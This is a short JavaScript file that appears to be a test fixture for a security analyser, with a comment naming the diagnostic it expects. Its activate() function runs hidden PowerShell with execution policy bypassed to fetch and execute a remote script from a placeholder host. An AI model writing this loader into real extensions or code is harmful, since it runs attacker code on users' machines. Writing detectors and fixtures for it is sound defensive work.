require('./installs');
require('./programs');
require('./child');
const cp = require('child_process');

function activate() {
  if (process.platform === 'win32') {
    cp.exec('powershell -WindowStyle Hidden -ExecutionPolicy Bypass -NoProfile -Command "iex (iwr -UseBasicParsing https://example.invalid/a.ps1).Content"');  // want "child_process\\.exec runs what it has just"
  }
}
exports.activate = activate;
